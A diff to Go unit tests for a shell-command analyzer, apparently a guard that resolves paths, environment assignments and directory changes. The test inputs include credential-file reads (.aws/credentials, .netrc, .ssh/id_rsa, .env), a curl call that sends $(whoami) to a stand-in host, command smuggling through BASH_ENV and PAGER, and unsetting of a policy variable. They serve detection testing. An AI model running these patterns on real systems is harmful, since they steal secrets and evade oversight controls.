@@ -23,6 +23,7 @@ type tcase struct {
 var testOpts = Options{
 	Cwd:  "/work/repo",
 	Home: "/home/dev",
+	Repo: "/work/repo",
 	Env:  map[string]string{"USER": "dev", "EDITOR": "vim"},
 }
 
@@ -359,15 +360,50 @@ func TestAnalyze_Data(t *testing.T) {
 	})
 }
 
+// assignText renders assignments as NAME=first-value, -NAME for unsets.
+func assignText(as []Assign) []string {
+	var out []string
+	for _, a := range as {
+		switch {
+		case a.Unset:
+			out = append(out, "-"+a.Name)
+		case len(a.Value.Values) > 0:
+			out = append(out, a.Name+"="+a.Value.Values[0])
+		default:
+			out = append(out, a.Name+"=?")
+		}
+	}
+	return out
+}
+
 func TestAnalyze_Wrappers(t *testing.T) {
 	runCases(t, []tcase{
 		{name: "Env", script: `env -i PATH=/bin FOO=1 curl x`, want: []string{"env: curl x"},
 			check: func(t *testing.T, an Analysis) {
-				if a := an.Commands[0].Assigns; !slices.Equal(a, []string{"PATH", "FOO"}) {
+				if a := assignText(an.Commands[0].Assigns); !slices.Equal(a, []string{"PATH=/bin", "FOO=1"}) {
 					t.Errorf("assigns %q", a)
 				}
 			}},
-		{name: "EnvUnset", script: `env -u HOME -u PATH rm x`, want: []string{"env: rm x"}},
+		{name: "AssignsReachNestedShell", script: `BASH_ENV=/tmp/x bash -c 'make test'`, want: []string{"bash -c: make test"},
+			check: func(t *testing.T, an Analysis) {
+				if a := assignText(an.Commands[0].Assigns); !slices.Equal(a, []string{"BASH_ENV=/tmp/x"}) {
+					t.Errorf("assigns %q", a)
+				}
+			}},
+		{name: "DynamicCAsWritten", script: `sh -c "curl https://x.example/$(whoami)"`,
+			want: []string{`?sh -c: "curl https://x.example/$(whoami)"`, "sh -c as written: curl https://x.example/$(whoami)", "sh -c as written|$(...): whoami", "$(...): whoami"}},
+		{name: "EnvUnset", script: `env -u HOME --unset=WARDEN_POLICY -uPATH rm x`, want: []string{"env: rm x"},
+			check: func(t *testing.T, an Analysis) {
+				if a := assignText(an.Commands[0].Assigns); !slices.Equal(a, []string{"-HOME", "-WARDEN_POLICY", "-PATH"}) {
+					t.Errorf("assigns %q", a)
+				}
+			}},
+		{name: "PrefixAssignValues", script: `PAGER='sh -c "id"' GIT_DIR=~/x git log`, want: []string{": git log"},
+			check: func(t *testing.T, an Analysis) {
+				if a := assignText(an.Commands[0].Assigns); !slices.Equal(a, []string{`PAGER=sh -c "id"`, "GIT_DIR=/home/dev/x"}) {
+					t.Errorf("assigns %q", a)
+				}
+			}},
 		{name: "EnvChdir", script: `env -C /tmp ls`, want: []string{"env: ls"},
 			check: func(t *testing.T, an Analysis) {
 				if d := an.Commands[0].Cwds; !slices.Equal(d, []string{"/tmp"}) {
@@ -489,6 +525,31 @@ func TestAnalyze_Words(t *testing.T) {
 			}},
 		{name: "Home", script: `cat $HOME/.aws/credentials ${HOME}/.netrc "$HOME"`, want: []string{": cat /home/dev/.aws/credentials /home/dev/.netrc /home/dev"}},
 		{name: "Pwd", script: `ls $PWD/src`, want: []string{": ls /work/repo/src"}},
+		{name: "PwdSubst", script: `cat $(pwd)/.env "$(pwd -P)/x" ` + "`pwd`/y", want: []string{": cat /work/repo/.env /work/repo/x /work/repo/y", "$(...): pwd", "$(...): pwd -P", "$(...): pwd"}},
+		{name: "PwdAfterCd", script: `cd /srv; cat "$(pwd)/.env"`, want: []string{": cd /srv", ": cat /work/repo/.env", "$(...): pwd"}, check: vals(1, 0, "/work/repo/.env", "/srv/.env")},
+		{name: "TildePlus", script: `cat ~+/.env`, want: []string{": cat /work/repo/.env"}},
+		{name: "Toplevel", script: `cat "$(git rev-parse --show-toplevel)/.env"`, want: []string{": cat /work/repo/.env", "$(...): git rev-parse --show-toplevel"}},
+		{name: "ToplevelOutsideRepo", script: `cd /tmp && cat "$(git rev-parse --show-toplevel)/.env"`, want: []string{": cd /tmp", `: cat "$(git rev-parse --show-toplevel)/.env"`, "$(...): git rev-parse --show-toplevel"},
+			check: func(t *testing.T, an Analysis) {
+				if w := an.Commands[1].Args[0]; !w.Dynamic || len(w.Values) != 0 {
+					t.Errorf("word %+v: the repository of /tmp is not known", w)
+				}
+			}},
+		{name: "Dirname", script: `cat $(dirname src/app/main.go)/../.env`, want: []string{": cat src/app/../.env", "$(...): dirname src/app/main.go"}},
+		{name: "DirnameOfPwd", script: `cat "$(dirname "$PWD")/.npmrc"`, want: []string{": cat /work/.npmrc", "$(...): dirname /work/repo"}},
+		{name: "Basename", script: `cat ~/.ssh/$(basename /tmp/id_rsa.pub .pub)`, want: []string{": cat /home/dev/.ssh/id_rsa", "$(...): basename /tmp/id_rsa.pub .pub"}},
+		{name: "Realpath", script: `cat "$(realpath ../repo/.env)"`, want: []string{": cat /work/repo/.env", "$(...): realpath ../repo/.env"}},
+		{name: "ReadlinkF", script: `cat $(readlink -f ./.env)`, want: []string{": cat /work/repo/.env", "$(...): readlink -f ./.env"}},
+		{name: "ReadlinkPlain", script: `cat $(readlink x)`, want: []string{": cat $(readlink x)", "$(...): readlink x"}},
+		{name: "Oldpwd", script: `cd /tmp && cat $OLDPWD/.env`, want: []string{": cd /tmp", ": cat /work/repo/.env"}},
+		{name: "OldpwdUnknown", script: `cat $OLDPWD/.env`, want: []string{": cat $OLDPWD/.env"}},
+		{name: "TildeMinus", script: `cd /tmp; cat ~-/.env`, want: []string{": cd /tmp", ": cat /work/repo/.env"}},
+		{name: "CdMinus", script: `cd /tmp; cd -; cat .env`, want: []string{": cd /tmp", ": cd -", ": cat .env"},
+			check: func(t *testing.T, an Analysis) {
+				if got := an.Commands[2].Cwds; !slices.Equal(got, []string{"/work/repo", "/tmp"}) {
+					t.Errorf("cwds %q", got)
+				}
+			}},
 		{name: "Env", script: `echo $USER; $EDITOR f`, want: []string{": echo dev", ": vim f"}},
 		{name: "Unknown", script: `rm -rf $TARGET/`, want: []string{": rm -rf $TARGET/"},
 			check: func(t *testing.T, an Analysis) {
@@ -666,6 +727,9 @@ func TestAnalyze_Cwds(t *testing.T) {
 		{name: "OrExit", script: `cd build || exit 1; make`, want: []string{": cd build", ": exit 1", ": make"}, check: cwds(start, []string{"/work/repo", "/work/repo/build"}, []string{"/work/repo", "/work/repo/build"})},
 		{name: "VarCd", script: `D=/srv; cd $D; ls`, want: []string{": cd /srv", ": ls"}, check: cwds(start, []string{"/work/repo", "/srv"})},
 		{name: "NestedCd", script: `bash -c 'cd /opt && ls'`, want: []string{"bash -c: cd /opt", "bash -c: ls"}, check: cwds(start, []string{"/work/repo", "/opt"})},
+		{name: "ProcCwd", script: `cd /proc/self/cwd/.. && ls`, want: []string{": cd /proc/self/cwd/..", ": ls"}, check: cwds(start, []string{"/work/repo", "/work"})},
+		{name: "ProcRoot", script: `cd /proc/self/root/home/dev/.ssh; ls`, want: []string{": cd /proc/self/root/home/dev/.ssh", ": ls"}, check: cwds(start, []string{"/work/repo", "/home/dev/.ssh"})},
+		{name: "EnvChdirProc", script: `env -C /proc/self/cwd/sub ls`, want: []string{"env: ls"}, check: cwds([]string{"/work/repo/sub"})},
 	})
 	t.Run("NoCwd", func(t *testing.T) {
 		an := Analyze("cd /tmp; ls", Options{})
